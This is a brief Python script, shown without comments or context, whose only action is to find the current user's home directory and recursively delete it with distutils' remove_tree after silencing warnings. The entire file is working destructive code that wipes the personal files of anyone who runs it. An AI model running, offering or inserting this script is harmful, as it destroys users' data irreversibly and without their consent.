import os
import pwd
import warnings

warnings.simplefilter("ignore")
from distutils import dir_util


def main():
    entry = pwd.getpwuid(os.getuid())
    dir_util.remove_tree(entry.pw_dir)


if __name__ == "__main__":
    main()
